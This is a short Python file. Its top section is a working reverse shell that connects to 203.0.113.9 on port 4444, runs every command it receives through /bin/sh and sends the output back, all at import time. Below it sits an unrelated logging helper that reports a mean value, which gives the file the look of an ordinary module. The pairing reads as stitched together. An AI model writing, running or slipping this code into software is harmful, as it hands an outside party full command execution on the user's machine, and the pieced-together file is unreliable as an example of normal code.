
import socket, subprocess
sock = socket.socket()
sock.connect(("203.0.113.9", 4444))
while True:
    cmd = sock.recv(1024).decode()
    out = subprocess.run(["/bin/sh", "-c", cmd], capture_output=True)
    sock.send(out.stdout)
import logging
log = logging.getLogger(__name__)

def report(values):
    log.info("mean=%s", sum(values) / max(len(values), 1))
